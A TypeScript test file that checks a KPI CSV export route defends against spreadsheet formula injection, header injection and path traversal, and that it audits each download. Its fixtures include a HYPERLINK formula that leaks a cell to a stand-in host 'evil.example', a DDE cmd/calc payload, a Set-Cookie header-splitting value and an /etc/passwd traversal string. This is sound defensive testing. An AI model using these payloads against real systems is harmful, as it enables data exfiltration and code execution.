// The KPI CSV download (app/(app)/kpis/csv/route.ts) against a real database: team names an
// administrator typed cannot run as spreadsheet formulas, only known tables are served (the name goes
// into Content-Disposition), nothing is cached, and every download is in the audit log.
import { beforeAll, describe, expect, it, vi } from "vitest";
import type { Ctx } from "../../lib/auth/context";
import { withTenant } from "../../lib/db/tenant";
import { createTeam, createTenant, createUser, ctxFor, type TestUser } from "../support/factories";

// the route reads the session through next-auth; here the signed-in user is whoever the test says
const session = vi.hoisted(() => ({ ctx: null as Ctx | null }));
vi.mock("@/lib/auth/session", () => ({ currentContext: async () => session.ctx, requireContext: async () => session.ctx }));
const { GET } = await import("../../app/(app)/kpis/csv/route");

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")';
const FORMULA_NAMES = [HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tTab team", "\rCR team"];

let tenantId: string;
let head: TestUser;
let worker: TestUser;

/** RFC 4180 cells, enough to see each cell as a spreadsheet would. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  const endRow = () => {
    endCell();
    rows.push(row);
    row = [];
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") endCell();
    else if (ch === "\n") endRow();
    else if (ch === "\r" && text[i + 1] === "\n") {
      endRow();
      i++;
    } else cell += ch;
  }
  if (cell !== "" || row.length) endRow();
  return rows;
}

const get = (search: string) => GET(new Request(`http://localhost/kpis/csv?${search}`));
const downloads = () =>
  withTenant(tenantId, (tx) => tx.auditEvent.findMany({ where: { tenantId, action: "export.kpis" }, orderBy: { id: "asc" }, select: { actorId: true, entityId: true, details: true } }));

beforeAll(async () => {
  tenantId = (await createTenant()).id;
  for (const name of FORMULA_NAMES) await createTeam(tenantId, { name });
  await createTeam(tenantId, { name: "Safeguarding East" });
  head = await createUser(tenantId, { role: "HEAD_OF_SERVICE" });
  worker = await createUser(tenantId, { role: "SOCIAL_WORKER" });
  await createUser(tenantId, { role: "SOCIAL_WORKER", name: HYPERLINK });
});

describe("KPI CSV download", () => {
  it("writes a team named like a formula as text, and audits the download", async () => {
    session.ctx = { ...ctxFor(head), ip: "198.51.100.7" };
    const before = (await downloads()).length;
    const response = await get("table=teams&kpi=caseload&period=fy&year=2026");
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Cache-Control")).toBe("no-store");
    expect(response.headers.get("Content-Disposition")).toBe('attachment; filename="continuum-kpis-teams-caseload-fy-2026.csv"');

    const text = await response.text();
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(["team", "value", "numerator", "denominator"]);
    const names = rows.slice(1).map((r) => r[0]);
    // each formula-like name is there, as text: a leading quote stops a spreadsheet running it
    for (const name of FORMULA_NAMES) expect(names).toContain(`'${name}`);
    expect(names).toContain("Safeguarding East");
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click here"")"`);
    // no cell anywhere starts with what a spreadsheet takes for a formula
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);

    const audited = (await downloads()).slice(before);
    expect(audited).toEqual([
      { actorId: head.id, entityId: tenantId, details: { table: "teams", kpi: "caseload", period: "fy-2026", rows: FORMULA_NAMES.length + 1, ip: "198.51.100.7" } },
    ]);
  });

  it("lists each practitioner's figure, a name typed like a formula written as text", async () => {
    session.ctx = ctxFor(head);
    const rows = parseCsv(await (await get("table=workers&kpi=caseload&period=fy&year=2026")).text());
    expect(rows[0]).toEqual(["worker", "team", "value", "numerator", "denominator"]);
    expect(rows.slice(1).map((r) => r[0])).toEqual(expect.arrayContaining([`'${HYPERLINK}`, worker.name]));
  });

  it("every known table downloads, uncached and audited, with a file name of its own", async () => {
    session.ctx = ctxFor(head);
    const before = (await downloads()).length;
    const tables = [
      ["", "continuum-kpis-summary-fy-2026.csv"],
      ["table=summary", "continuum-kpis-summary-fy-2026.csv"],
      ["table=trend&kpi=re-referral", "continuum-kpis-trend-re-referral-fy-2026.csv"],
      ["table=workers&kpi=caseload", "continuum-kpis-workers-caseload-fy-2026.csv"],
      ["table=placements", "continuum-kpis-placements-fy-2026.csv"],
      ["table=placement-spend", "continuum-kpis-placement-spend-fy-2026.csv"],
      ["table=placement-mix", "continuum-kpis-placement-mix-fy-2026.csv"],
      ["table=placement-stability&kpi=caseload", "continuum-kpis-placement-stability-fy-2026.csv"],
    ] as const;
    for (const [search, file] of tables) {
      const response = await get(`${search}&period=fy&year=2026`);
      expect(response.status, search).toBe(200);
      expect(response.headers.get("Cache-Control")).toBe("no-store");
      expect(response.headers.get("Content-Disposition")).toBe(`attachment; filename="${file}"`);
    }
    const audited = (await downloads()).slice(before);
    expect(audited.map((a) => (a.details as { table: string }).table)).toEqual(["summary", "summary", "trend", "workers", "placements", "placement-spend", "placement-mix", "placement-stability"]);
  });

  it("refuses a table it does not know, or a KPI table without a KPI, with 404 and nothing audited", async () => {
    session.ctx = ctxFor(head);
    const before = (await downloads()).length;
    for (const search of [
      "table=evil",
      `table=${encodeURIComponent('summary"; filename="evil.bat')}`,
      `table=${encodeURIComponent("summary\r\nSet-Cookie: a=b")}`,
      "table=..%2F..%2Fetc%2Fpasswd",
      "table=teams",
      "table=trend&kpi=nope",
      "table=teams&kpi=__proto__",
    ]) {
      const response = await get(search);
      expect(response.status, search).toBe(404);
      expect(response.headers.get("Content-Disposition")).toBeNull();
      expect(response.headers.get("Cache-Control")).toBe("no-store");
    }
    expect((await downloads()).length).toBe(before);
  });

  it("is refused to someone who may not see the KPIs, and to nobody signed in, with nothing audited", async () => {
    const before = (await downloads()).length;
    session.ctx = ctxFor(worker);
    expect((await get("table=summary")).status).toBe(403);
    session.ctx = null;
    expect((await get("table=summary")).status).toBe(401);
    expect((await downloads()).length).toBe(before);
  });
});
